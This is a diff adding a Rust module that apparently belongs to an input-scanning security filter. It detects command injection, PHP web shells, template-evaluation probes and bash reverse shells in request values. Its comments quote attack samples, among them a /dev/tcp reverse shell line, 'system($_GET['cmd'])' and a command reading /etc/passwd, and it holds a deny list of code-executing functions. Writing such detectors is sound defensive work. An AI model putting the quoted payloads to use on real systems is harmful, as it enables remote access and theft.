@@ -1,0 +1,203 @@
+//! Code that runs commands, wherever it sits in a value: calls of the functions that hand
+//! a string to a shell or an interpreter (`system('id')`, `exec("whoami")`,
+//! `Runtime.getRuntime().exec("cmd /c dir")`), PHP's evaluating interpolation
+//! (`${@print(...)}`, `{${phpinfo()}}`), probes that only an evaluating context answers
+//! (`{{7*7}}`; the shell's `$((7+7))` is found by the separator scan, which stops at every
+//! `$`), and a shell's network redirection (`/dev/tcp/10.0.0.1/4444`).
+//! These are not prose and not data, so, unlike separators, they count whatever precedes
+//! them.
+
+use super::{
+    super::Match,
+    words::{self, LONGEST_COMMAND},
+};
+
+/// Functions that run their string argument as a shell command or as code: PHP (`system`,
+/// `exec`, `shell_exec`, `passthru`, `popen`, `proc_open`, `pcntl_exec`, `eval`, `assert`),
+/// Perl and Ruby (`system`, `exec`, `eval`), Python (`os.system`, `os.popen`, `exec`,
+/// `eval`), Node.js (`child_process.exec`, `execSync`, `spawn`, `spawnSync`, `execFile`),
+/// Java (`Runtime.exec`). Matched by name, any case (PHP's are case-insensitive).
+const RUNS_ITS_ARGUMENT: &[&str] = &[
+    "system",
+    "exec",
+    "execsync",
+    "shell_exec",
+    "passthru",
+    "popen",
+    "proc_open",
+    "pcntl_exec",
+    "eval",
+    "assert",
+    "spawn",
+    "spawnsync",
+    "execfile",
+];
+
+/// PHP's file inclusion: code execution when the file named comes from the request.
+const INCLUDES: &[&str] = &["include", "include_once", "require", "require_once"];
+
+/// PHP's request variables (superglobals): a call of [`RUNS_ITS_ARGUMENT`] or
+/// [`INCLUDES`] on one of them is a web shell (`system($_GET['cmd'])`).
+const REQUEST_VARIABLES: &[&str] = &[
+    "$_get", "$_post", "$_request", "$_cookie", "$_server", "$_files", "$_env",
+];
+
+/// The longest name in [`RUNS_ITS_ARGUMENT`] and [`INCLUDES`].
+const LONGEST_CALL: usize = 12;
+
+/// The first command-running code in `value`, of the kinds `hints` leave possible.
+pub(super) fn check(value: &str, hints: super::Hints) -> Option<Match> {
+    let b = value.as_bytes();
+    // A reverse shell redirects: `>&`, `0<&1`, `<>`.
+    if hints.redirect {
+        let mut from = 0;
+        while let Some(p) = super::super::find(&value[from..], "/dev/") {
+            let at = from + p;
+            if reverse_shell(b, at) {
+                return Some(Match::new("cmdi:reverse_shell", value, at, at + 40));
+            }
+            from = at + 1;
+        }
+    }
+    if !hints.code {
+        return None;
+    }
+    let mut i = 0;
+    while let Some(p) = b[i..].iter().position(|&c| c == b'(' || c == b'{') {
+        let at = i + p;
+        let found = match b[at] {
+            b'(' => call(value, at).map(|start| (start, "cmdi:code_call")),
+            // `${` is looked at from its `$`; `$((` and `$[` are the separator scan's.
+            _ => {
+                let start = if at > 0 && b[at - 1] == b'$' { at - 1 } else { at };
+                (evaluation_probe(b, start) || php_interpolation(b, start))
+                    .then_some((start, "cmdi:evaluation"))
+            }
+        };
+        if let Some((start, rule)) = found {
+            return Some(Match::new(rule, value, start, (at + 40).min(value.len())));
+        }
+        i = at + 1;
+    }
+    None
+}
+
+/// Where the call whose `(` is at `paren` starts, when it is a call of
+/// [`RUNS_ITS_ARGUMENT`] on a string that holds a command, or of it or [`INCLUDES`] on a
+/// request variable.
+fn call(value: &str, paren: usize) -> Option<usize> {
+    let b = value.as_bytes();
+    let name_len = b[..paren]
+        .iter()
+        .rev()
+        .take(LONGEST_CALL + 1)
+        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_')
+        .count();
+    if name_len == 0 || name_len > LONGEST_CALL {
+        return None;
+    }
+    let start = paren - name_len;
+    let name = &b[start..paren];
+    let runs = RUNS_ITS_ARGUMENT
+        .iter()
+        .any(|n| n.as_bytes().eq_ignore_ascii_case(name));
+    if !runs && !INCLUDES.iter().any(|n| n.as_bytes().eq_ignore_ascii_case(name)) {
+        return None;
+    }
+    let arg = value[paren + 1..].trim_start_matches([' ', '\t']);
+    // Python and Node.js take the command as a list too: `Popen(['cat', '/etc/passwd'])`.
+    let arg = arg
+        .strip_prefix('[')
+        .map_or(arg, |a| a.trim_start_matches([' ', '\t']));
+    let a = arg.as_bytes();
+    if REQUEST_VARIABLES.iter().any(|v| {
+        a.get(..v.len())
+            .is_some_and(|p| p.eq_ignore_ascii_case(v.as_bytes()))
+    }) {
+        return Some(start);
+    }
+    let quote = *a.first()?;
+    if !runs || !matches!(quote, b'\'' | b'"' | b'`') {
+        return None;
+    }
+    let close = a[1..].iter().position(|&c| c == quote)?;
+    // The string's end is the command's end: `system('ls')`, not `system('more ' + f)`.
+    let command = &arg[1..=close];
+    words::command_at(command, 0, false, false).map(|_| start)
+}
+
+/// `$((7+7))`, `$[7+7]`, `${7*7}`, `{{7*7}}`: arithmetic on two literal numbers in the
+/// syntax of a shell, an expression language (JSP EL, Spring) or a template engine (Jinja,
+/// Twig, Handlebars). Code does its sums on variables; a probe checks that the value was
+/// evaluated by reading back the result.
+pub(super) fn evaluation_probe(b: &[u8], at: usize) -> bool {
+    let rest = &b[at..];
+    let (open, close): (usize, &[u8]) = if rest.starts_with(b"$((") {
+        (3, b"))")
+    } else if rest.starts_with(b"$[") {
+        (2, b"]")
+    } else if rest.starts_with(b"${") || rest.starts_with(b"{{") {
+        (2, b"}")
+    } else {
+        return false;
+    };
+    let mut k = open;
+    let blanks = |k: &mut usize| {
+        while rest.get(*k).is_some_and(|&c| c == b' ') {
+            *k += 1;
+        }
+    };
+    let number = |k: &mut usize| {
+        let from = *k;
+        while rest.get(*k).is_some_and(u8::is_ascii_digit) {
+            *k += 1;
+        }
+        *k > from && *k - from <= 9
+    };
+    blanks(&mut k);
+    if !number(&mut k) {
+        return false;
+    }
+    blanks(&mut k);
+    if !rest
+        .get(k)
+        .is_some_and(|c| matches!(c, b'+' | b'-' | b'*' | b'/' | b'%'))
+    {
+        return false;
+    }
+    k += 1;
+    blanks(&mut k);
+    if !number(&mut k) {
+        return false;
+    }
+    blanks(&mut k);
+    rest[k..].starts_with(close)
+}
+
+/// PHP's complex interpolation running a function: `${@print(...)}` (with `@`, PHP's error
+/// silencing, which only code writes) or `{${phpinfo()}}`.
+fn php_interpolation(b: &[u8], at: usize) -> bool {
+    let rest = &b[at..];
+    let name = if rest.starts_with(b"${@") {
+        &rest[3..]
+    } else if rest.starts_with(b"{${") {
+        &rest[3..]
+    } else {
+        return false;
+    };
+    let len = name
+        .iter()
+        .take(LONGEST_COMMAND)
+        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_')
+        .count();
+    len > 0 && name.get(len) == Some(&b'(')
+}
+
+/// `/dev/tcp/` or `/dev/udp/` and an address: the redirection bash turns into a network
+/// connection, the core of a reverse shell (`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`).
+/// The manual's own `/dev/tcp/host/port` names no address.
+fn reverse_shell(b: &[u8], at: usize) -> bool {
+    let rest = &b[at..];
+    (rest.starts_with(b"/dev/tcp/") || rest.starts_with(b"/dev/udp/"))
+        && rest.get(9).is_some_and(u8::is_ascii_digit)
+}
